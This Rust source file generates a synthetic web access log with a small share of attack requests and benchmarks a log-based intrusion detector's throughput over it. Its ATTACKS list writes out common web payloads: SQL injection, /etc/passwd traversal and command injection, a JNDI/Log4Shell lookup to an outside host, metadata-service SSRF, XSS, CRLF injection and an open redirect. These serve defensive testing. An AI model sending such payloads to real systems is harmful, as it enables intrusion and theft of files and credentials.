//! `vigil-bench gen-log` and `vigil-bench detect`: a synthetic access log,
//! and the detector's single-core throughput over one.
use std::{
    io::{BufWriter, Write},
    path::PathBuf,
    sync::Arc,
    time::Instant,
};

use vigil::{
    detection::{
        parse::{parse_with, TimeCache},
        rng::Rng,
        rules::Rules,
        Detector,
    },
    models::severity::Severity,
};

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

fn stamp(unix: i64) -> String {
    let t = chrono::DateTime::from_timestamp(unix, 0).unwrap_or_default();
    use chrono::{Datelike, Timelike};
    format!(
        "{:02}/{}/{}:{:02}:{:02}:{:02} +0000",
        t.day(),
        MONTHS[t.month0() as usize],
        t.year(),
        t.hour(),
        t.minute(),
        t.second()
    )
}

const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "python-requests/2.32.3",
    "curl/8.5.0",
    "okhttp/4.12.0",
];

const PATHS: &[&str] = &[
    "/",
    "/products",
    "/products/trail-runner-3",
    "/products/wool-socks-2-pack?color=grey&size=M",
    "/static/css/main.3f2a91c.css",
    "/static/js/app.7b1c44e.js",
    "/static/js/vendor.2d9e0aa.js",
    "/images/hero-winter-1920w.webp",
    "/fonts/inter-var.woff2",
    "/favicon.ico",
    "/search?q=running+shoes&page=2",
    "/search?q=children%27s+books",
    "/search?q=%22trail+runner%22+--+review",
    "/search?q=union+square+hotels",
    "/api/v1/products?category=shoes&size=42&color=black&sort=-price&page=3&per_page=48&fields=id,name,price",
    "/api/v1/cart",
    "/api/v1/orders?status=shipped,delivered&since=2025-10-01T00:00:00Z",
    "/?utm_source=newsletter&utm_medium=email&utm_campaign=black_friday_2026&utm_content=hero",
    "/login?next=%2Faccount%2Forders",
    "/health",
    "/blog/how-to-choose-running-shoes",
    "/collections/sale?page=4",
];

const ATTACKS: &[&str] = &[
    "/item?id=1%20UNION%20SELECT%20NULL,NULL--",
    "/login?user=admin%27%20or%201=1--",
    "/download?file=../../../../etc/passwd",
    "/.env",
    "/.git/config",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?x=${jndi:ldap://198.51.100.7:1389/a}",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/fetch?target=http://169.254.169.254/latest/meta-data/",
    "/index.php?page=php://filter/convert.base64-encode/resource=index",
    "/login?next=https://evil.example/",
    "/redirect?to=/%0d%0aSet-Cookie:%20a=b",
    "/files/%252e%252e%252fetc%252fpasswd",
];

/// Writes `lines` log lines to `out`: ordinary traffic from `clients`
/// addresses over a day, and `attack_per_mille` ‰ attacks from 2,000
/// other addresses.
pub fn gen_log(out: &PathBuf, lines: usize, attack_per_mille: usize, clients: usize, seed: u64) {
    let file = std::fs::File::create(out).unwrap_or_else(|e| panic!("{}: {e}", out.display()));
    let mut w = BufWriter::with_capacity(1 << 20, file);
    let mut rng = Rng::new(seed);
    // 2026-11-01T00:00:00Z onwards, spread over a day.
    let start = 1_793_491_200_i64;
    let span = 86_400_i64;
    let clients = clients.max(1);
    let (mut attacks, mut bytes) = (0usize, 0usize);
    for i in 0..lines {
        let t = start + (i as i64 * span) / lines.max(1) as i64;
        let attack = rng.below(1000) < attack_per_mille;
        let (ip, method, path, status, ua) = if attack {
            attacks += 1;
            let n = rng.below(2000);
            (
                format!("203.0.{}.{}", 100 + n / 250, n % 250 + 1),
                "GET",
                rng.pick(ATTACKS),
                [200, 400, 403, 404, 500][rng.below(5)],
                rng.pick(BROWSERS),
            )
        } else {
            let n = rng.below(clients);
            let ip = if n.is_multiple_of(10) {
                format!("2a02:c7c:{:x}:{:x}::1", n >> 16, n & 0xffff)
            } else {
                format!(
                    "{}.{}.{}.{}",
                    11 + (n >> 16) % 200,
                    (n >> 8) & 255,
                    n & 255,
                    1 + n % 7
                )
            };
            let method = if rng.below(20) == 0 { "POST" } else { "GET" };
            let status = [200, 200, 200, 200, 200, 200, 304, 301, 404][rng.below(9)];
            (ip, method, rng.pick(PATHS), status, rng.pick(BROWSERS))
        };
        let line = format!(
            "{ip} - - [{}] \"{method} {path} HTTP/1.1\" {status} {} \"https://shop.example.com/\" \"{ua}\"\n",
            stamp(t),
            200 + rng.below(60_000)
        );
        bytes += line.len();
        w.write_all(line.as_bytes()).expect("write");
    }
    w.flush().expect("flush");
    println!(
        "wrote {lines} lines ({attacks} attacks, {:.1} MB) to {}",
        bytes as f64 / 1e6,
        out.display()
    );
}

/// Parses and scores every line of `file` on this thread; prints lines/s.
pub fn detect(file: &PathBuf, rules_file: Option<&PathBuf>, max_clients: usize, rounds: usize) {
    let text = std::fs::read_to_string(file).unwrap_or_else(|e| panic!("{}: {e}", file.display()));
    let rules =
        Arc::new(Rules::load(rules_file.map(PathBuf::as_path)).unwrap_or_else(|e| panic!("{e}")));
    let n_lines = text.lines().count();
    println!(
        "detect: {} ({n_lines} lines, {:.1} MB), {} rules, one thread, {rounds} round(s)",
        file.display(),
        text.len() as f64 / 1e6,
        rules.rules.len()
    );
    let mut best = f64::MAX;
    for round in 1..=rounds.max(1) {
        let mut detector = Detector::new(rules.clone(), max_clients);
        let mut cache = TimeCache::default();
        let (mut malformed, mut by_severity) = (0usize, [0usize; 4]);
        let mut matched = 0usize;
        let started = Instant::now();
        for line in text.lines() {
            match parse_with(line, &mut cache) {
                Ok(l) => {
                    let v = detector.inspect(&l);
                    if v.is_match() {
                        matched += 1;
                        by_severity[v.severity().rank() as usize - 1] += 1;
                    }
                }
                Err(_) => malformed += 1,
            }
        }
        let secs = started.elapsed().as_secs_f64();
        best = best.min(secs);
        println!(
            "round {round}: {:.3} s, {:>9.0} lines/s, {:.1} MB/s; malformed {malformed}, matched {matched} (LOW {}, MEDIUM {}, HIGH {}, CRITICAL {}); {} addresses tracked",
            secs,
            n_lines as f64 / secs,
            text.len() as f64 / 1e6 / secs,
            by_severity[Severity::Low.rank() as usize - 1],
            by_severity[Severity::Medium.rank() as usize - 1],
            by_severity[Severity::High.rank() as usize - 1],
            by_severity[Severity::Critical.rank() as usize - 1],
            detector.tracked_clients(),
        );
    }
    println!("best: {:.0} lines/s", n_lines as f64 / best);
}
